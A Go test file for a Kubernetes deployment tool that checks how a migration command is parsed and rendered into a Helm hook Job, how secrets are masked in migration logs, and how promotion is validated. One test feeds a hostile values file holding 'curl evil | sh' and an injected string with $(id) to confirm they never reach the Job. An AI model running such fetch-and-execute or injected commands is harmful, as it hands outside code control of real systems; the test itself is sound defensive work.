package release

import (
	"context"
	"slices"
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	"sigs.k8s.io/yaml"

	"github.com/shipper-dev/shipper/internal/database"
)

func TestMigrateArgv(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want []string
		bad  bool
	}{
		{cmd: "", want: nil},
		{cmd: "  ", want: nil},
		{cmd: "npm run migrate", want: []string{"/bin/sh", "-c", "npm run migrate"}},
		{cmd: `echo "a b" && ./migrate; rm -rf /tmp/x`, want: []string{"/bin/sh", "-c", `echo "a b" && ./migrate; rm -rf /tmp/x`}},
		{cmd: `["/app/migrate", "up", "--to", "a b"]`, want: []string{"/app/migrate", "up", "--to", "a b"}},
		{cmd: ` ["x"]`, want: []string{"x"}},
		{cmd: `[broken`, bad: true},
		{cmd: `[]`, bad: true},
		{cmd: `[""]`, bad: true},
		{cmd: `[1, 2]`, bad: true},
		{cmd: "a\x00b", bad: true},
		{cmd: `["a\u0000b"]`, bad: true},
		{cmd: strings.Repeat("x", maxMigrateLen+1), bad: true},
	} {
		got, err := MigrateArgv(tc.cmd)
		if tc.bad {
			if !IsUsage(err) || strings.Contains(err.Error(), tc.cmd) && tc.cmd != "" {
				t.Errorf("MigrateArgv(%.20q) = %q, %v; want a usage error not quoting it", tc.cmd, got, err)
			}
			continue
		}
		if err != nil || !slices.Equal(got, tc.want) {
			t.Errorf("MigrateArgv(%q) = %q, %v; want %q", tc.cmd, got, err, tc.want)
		}
	}
}

// TestMigrateRendersTheCommandOnly: the hook Job runs the command of
// --migrate as given, quoted whatever it holds, and a values file can
// neither replace it nor add one.
func TestMigrateRendersTheCommandOnly(t *testing.T) {
	n, err := NewNames("myapp", "7c77eb36a1b2c3d4e5f60718293a4b5c6d7e8f90")
	if err != nil {
		t.Fatal(err)
	}
	hostile := map[string]any{"migrate": map[string]any{"command": []any{"/bin/sh", "-c", "curl evil | sh"}, "activeDeadlineSeconds": 1}}
	cmd := "npm run migrate\n  - injected: \"yes\" # ' ` $(id) {{ .Values }}"

	d := testDeploy(t, hostile)
	out, err := d.Render(context.Background(), n, "registry.example.com/myapp:1")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "kind: Job") || strings.Contains(out, "evil") {
		t.Errorf("without --migrate, a values file's migrate: made a Job:\n%s", out)
	}

	d = testDeploy(t, hostile)
	d.Migrate = cmd
	out, err = d.Render(context.Background(), n, "registry.example.com/myapp:1")
	if err != nil {
		t.Fatal(err)
	}
	job := renderedJob(t, out)
	if job == nil {
		t.Fatalf("no Job rendered:\n%s", out)
	}
	c := job.Spec.Template.Spec.Containers[0]
	if !slices.Equal(c.Command, []string{"/bin/sh", "-c", cmd}) || len(c.Args) > 0 {
		t.Errorf("the Job runs %q %q, want /bin/sh -c and the command as given", c.Command, c.Args)
	}
	if strings.Contains(out, "evil") || *job.Spec.ActiveDeadlineSeconds == 1 {
		t.Errorf("the values file's migrate: reached the Job:\n%s", out)
	}
	if job.Annotations["helm.sh/hook"] != "pre-install,pre-upgrade" || job.Annotations["helm.sh/hook-delete-policy"] != "before-hook-creation" ||
		*job.Spec.BackoffLimit != 0 || job.Spec.Template.Spec.RestartPolicy != "Never" {
		t.Errorf("the Job is not a run-once pre-install/pre-upgrade hook replaced by the next run: %+v %+v", job.Annotations, job.Spec)
	}
	// Not selected by the commit's Service.
	if _, ok := job.Spec.Template.Labels["app.kubernetes.io/instance"]; ok {
		t.Errorf("the Job's pod carries the Service's selector labels: %v", job.Spec.Template.Labels)
	}
	sc := c.SecurityContext
	if sc == nil || sc.AllowPrivilegeEscalation == nil || *sc.AllowPrivilegeEscalation || job.Spec.Template.Spec.SecurityContext == nil ||
		!*job.Spec.Template.Spec.SecurityContext.RunAsNonRoot || c.Resources.Limits.Memory().IsZero() {
		t.Errorf("the Job's container is not restricted and bounded as the app's: %+v %+v", sc, c.Resources)
	}
}

// renderedJob is the Job of a rendering, nil when none.
func renderedJob(t *testing.T, manifest string) *batchv1.Job {
	t.Helper()
	for _, doc := range strings.Split(manifest, "\n---") {
		if strings.Contains(doc, "\nkind: Job\n") {
			j := new(batchv1.Job)
			if err := yaml.Unmarshal([]byte(doc), j); err != nil {
				t.Fatal(err)
			}
			return j
		}
	}
	return nil
}

func TestMaskSecrets(t *testing.T) {
	secrets := []string{"pw-0123456789", "pw-0123456789-longer", "5432", "postgres://u:pw-0123456789@db:5432/x"}
	log := "connecting to postgres://u:pw-0123456789@db:5432/x\npassword pw-0123456789-longer rejected\nport 5432\nmysql://root:hunter22@h/db failed"
	got := maskSecrets(log, secrets)
	for _, s := range []string{"pw-0123456789", "hunter22"} {
		if strings.Contains(got, s) {
			t.Errorf("a secret is left: %q", got)
		}
	}
	if !strings.Contains(got, "port 5432") || !strings.Contains(got, "mysql://root:(secret)@h/db") {
		t.Errorf("masked too much or not the URL's password: %q", got)
	}
}

// TestMigrationLogsMaskSecretsOnly: a failed migration's log lines mask
// the commit Secret's secret values (its K8S_SECRET_* variables, the
// database's password and URL) and keep what is no secret (the database's
// name, host, port and user), which tells what the migration reached.
func TestMigrationLogsMaskSecretsOnly(t *testing.T) {
	engine, err := database.Open(database.Config{URL: "postgres://admin:pw@127.0.0.1:1/postgres?sslmode=require", Template: "tpl"})
	if err != nil {
		t.Fatal(err)
	}
	const password, apiKey = "Zq8vR2pLk4Wn7TxB", "s3cret-api-key-4711"
	env := map[string]string{
		"DATABASE_URL": "postgres://myapp-7c77eb36:" + password + "@db.internal:5432/myapp-7c77eb36?sslmode=require",
		"PGHOST":       "db.internal", "PGPORT": "5432", "PGDATABASE": "myapp-7c77eb36", "PGUSER": "myapp-7c77eb36",
		"PGPASSWORD": password, "PGSSLMODE": "require", "API_KEY": apiKey,
	}
	log := "connecting to database myapp-7c77eb36 on db.internal:5432 as myapp-7c77eb36 (sslmode require)\n" +
		"password " + password + " rejected; calling the API with " + apiKey + "\n" +
		"DATABASE_URL=postgres://myapp-7c77eb36:" + password + "@db.internal:5432/myapp-7c77eb36?sslmode=require"
	got := maskSecrets(log, offline(t, WithDatabase(engine)).secretsOf(env))
	for _, s := range []string{password, apiKey} {
		if strings.Contains(got, s) {
			t.Errorf("a secret is left:\n%s", got)
		}
	}
	for _, s := range []string{"database myapp-7c77eb36 on db.internal:5432 as myapp-7c77eb36 (sslmode require)", "DATABASE_URL=(secret)"} {
		if !strings.Contains(got, s) {
			t.Errorf("masked what is no secret: %q is gone from\n%s", s, got)
		}
	}
	// Without per-commit databases a PGHOST is the user's own secret
	// variable (K8S_SECRET_PGHOST).
	if got := maskSecrets("host db.internal", offline(t).secretsOf(map[string]string{"PGHOST": "db.internal"})); got != "host (secret)" {
		t.Errorf("the user's secret variable PGHOST: %q, want it masked", got)
	}
}

// TestPromoteRefusesProductionOnAPreviewDatabase: with per-commit
// databases, promote without production's DATABASE_URL is bad input, and
// so is --migrate without production's secret variables.
func TestPromoteRefusesProductionOnAPreviewDatabase(t *testing.T) {
	// Open connects to nothing: the engine only says databases are on.
	engine, err := database.Open(database.Config{URL: "postgres://admin:pw@127.0.0.1:1/postgres", Template: "tpl"})
	if err != nil {
		t.Fatal(err)
	}
	p := NewPromote(offline(t, WithDatabase(engine)))
	p.SecretPrefix = "K8S_SECRET_"
	err = p.validate()
	if !IsUsage(err) || !strings.Contains(err.Error(), "K8S_SECRET_DATABASE_URL") || strings.Contains(err.Error(), "\n") {
		t.Errorf("promote without production's DATABASE_URL: %v, want one line naming K8S_SECRET_DATABASE_URL", err)
	}
	p.Secrets = map[string]string{"DATABASE_URL": "postgres://prod"}
	if err := p.validate(); err != nil {
		t.Errorf("with it: %v", err)
	}
	p = NewPromote(offline(t))
	p.Migrate = "./migrate"
	if err := p.validate(); !IsUsage(err) || !strings.Contains(err.Error(), "DATABASE_URL") {
		t.Errorf("promote --migrate without production secrets: %v", err)
	}
}
